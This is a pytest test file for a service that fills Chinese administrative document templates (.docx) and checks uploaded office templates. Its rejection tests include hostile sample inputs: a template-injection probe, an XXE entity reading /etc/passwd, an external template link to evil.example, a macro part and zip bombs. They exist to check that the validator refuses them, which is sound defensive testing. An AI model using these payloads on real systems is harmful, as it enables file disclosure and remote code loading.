"""Documents as .docx: blanks, drafts, templates of an office, and what a template may not do."""

from __future__ import annotations

import io
import zipfile

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st

from service.documents.building import SEEDS, built_in
from service.documents.kinds import KINDS, missing, sample_values
from service.documents.rendering import BLANK, DRAFT, accept_template, render
from trace.errors import InvalidInput


def text_of(content: bytes) -> str:
    whole = Document(io.BytesIO(content))
    found = [one.text for one in whole.paragraphs]
    found += [cell.text for table in whole.tables for row in table.rows for cell in row.cells]
    return "\n".join(found + [one.text for one in whole.sections[0].header.paragraphs])


def written(*lines: str) -> bytes:
    whole = Document()
    for line in lines:
        whole.add_paragraph(line)
    kept = io.BytesIO()
    whole.save(kept)
    return kept.getvalue()


def repacked(content: bytes, more: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in more:
                new.writestr(name, old.read(name))
        for name, data in more.items():
            new.writestr(name, data)
    return out.getvalue()


def codes(content: bytes, kind: str = "stop_order") -> set[str]:
    with pytest.raises(InvalidInput) as caught:
        accept_template(kind, content)
    return {one.code for one in caught.value.errors}


@pytest.mark.parametrize("kind", KINDS)
def test_every_built_in_template_prints_every_value_it_names(kind: str) -> None:
    values = sample_values(kind)
    found = text_of(render(kind, values, None))
    assert BLANK not in found.replace(BLANK + "（由本机关填写）", "").replace("____________", "")
    assert "{{" not in found
    assert "{%" not in found
    assert DRAFT not in found
    for name, one in KINDS[kind].fields.items():
        if one.required and one.rows is None:
            assert f"（示例）{one.label}" in found, name
    accept_template(kind, built_in(kind))


@pytest.mark.parametrize("kind", KINDS)
def test_nothing_known_prints_blanks_and_says_draft(kind: str) -> None:
    found = text_of(render(kind, {}, None))
    assert BLANK in found
    assert "草稿" in found
    assert "None" not in found
    assert "示例" not in found.replace("内置示例", "")
    assert len(missing(kind, {})) == sum(one.required for one in KINDS[kind].fields.values())


def test_a_template_without_a_number_still_says_draft() -> None:
    mine = written("{{ party }}")
    assert DRAFT in text_of(render("stop_order", {"party": "甲"}, mine))
    assert DRAFT not in text_of(render("stop_order", {"party": "甲", "number": "梁市监〔2026〕1号"}, mine))


def test_rows_and_conditions_of_an_office_template() -> None:
    mine = written(
        "{% if urgent %}紧急：{{ urgent }}{% endif %}", "{%p for x in goods %}", "{{ x.lot }}批", "{%p endfor %}"
    )
    accept_template("stop_order", mine)
    found = text_of(render("stop_order", {"goods": [{"lot": "A1"}, {"lot": "B2"}], "number": "1"}, mine))
    assert "A1批" in found
    assert "B2批" in found
    assert "紧急" not in found


def test_equal_values_give_equal_bytes() -> None:
    values = sample_values("sampling_form")
    assert render("sampling_form", values, None) == render("sampling_form", values, None)


def test_a_field_the_kind_does_not_have_is_a_fault_of_the_caller() -> None:
    with pytest.raises(ValueError, match="colour"):
        render("stop_order", {"colour": "红"}, None)


@settings(max_examples=40)
@given(st.text(max_size=60))
def test_any_text_is_printed_as_text(text: str) -> None:
    made = render("stop_order", {"party": text, "number": "1"}, written("〔{{ party }}〕"))
    Document(io.BytesIO(made))
    if text.isalnum():
        assert f"〔{text}〕" in text_of(made)


def test_markup_in_a_value_stays_text() -> None:
    found = text_of(
        render("stop_order", {"party": "<w:p>{{ 7*7 }} & {% raw %}", "number": "1"}, written("{{ party }}"))
    )
    assert "<w:p>{{ 7*7 }} & {% raw %}" in found


@pytest.mark.parametrize(
    ("lines", "code"),
    [
        (["{{ colour }}"], "unknown_placeholder"),
        (["{{ party.name }}"], "unknown_placeholder"),
        (["{%p for x in goods %}", "{{ x.colour }}", "{%p endfor %}"], "unknown_placeholder"),
        (["{{ ''.__class__.__mro__ }}"], "not_supported"),
        (["{{ party.__class__ }}"], "unknown_placeholder"),
        (["{{ party * 9 }}"], "not_supported"),
        (["{{ range(9) }}"], "not_supported"),
        (["{% set a = 1 %}"], "not_supported"),
        (["{%p for x in range(999999999) %}", "a", "{%p endfor %}"], "not_supported"),
        (["{%p for x in goods %}", "{%p for y in goods %}", "a", "{%p endfor %}", "{%p endfor %}"], "not_supported"),
        (["{% include 'x' %}"], "not_supported"),
        (["{{r party }}"], "not_supported"),
        (["{%- if party %}a{% endif %}"], "not_supported"),
        (["{{ party -}}"], "not_supported"),
        (["{% vm %}"], "not_supported"),
        (["{% colspan party %}"], "not_supported"),
        (["{{ party }}"] + [""] * 501, "too_many_empty"),
        (["{{ goods }}"], "list"),
        (["{{ party"], "broken_tag"),
        (["{% if party %}a"], "broken_tag"),
        (["{{ party }}"] * 501, "too_many_tags"),
    ],
)
def test_what_a_template_may_not_say(lines: list[str], code: str) -> None:
    assert code in codes(written(*lines))


def test_an_unknown_placeholder_is_named() -> None:
    with pytest.raises(InvalidInput) as caught:
        accept_template("stop_order", written("{{ colour }} {{ shape }}"))
    said = "".join(one.detail for one in caught.value.errors)
    assert "colour" in said
    assert "shape" in said


def test_files_that_are_no_template() -> None:
    good = written("{{ party }}")
    assert codes(b"%PDF-1.7") == {"not_a_docx"}
    assert codes(repacked(good, {"word/vbaProject.bin": b"x"})) == {"macros"}
    assert codes(repacked(good, {"word/embeddings/a.xlsx": b"x"})) == {"macros"}
    assert codes(repacked(good, {"word/media/a.png": b"\0" * (17 << 20)})) == {"zip_bomb"}
    assert codes(repacked(good, {"word/document.xml": b"<a>" + b" " * (3 << 20) + b"</a>"})) == {"zip_bomb"}
    assert codes(good + b"\0" * (2 << 20)) == {"too_large"}
    doctype = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    assert codes(repacked(good, {"word/document.xml": doctype})) == {"not_a_docx"}
    outside = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    assert codes(repacked(good, {"word/_rels/settings.xml.rels": outside})) == {"external"}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("word/document.xml", "<a/>")
    assert codes(out.getvalue()) == {"not_a_docx"}


def test_every_kind_has_a_reviewable_seed() -> None:
    assert {one.stem for one in SEEDS.glob("*.yaml")} == set(KINDS)
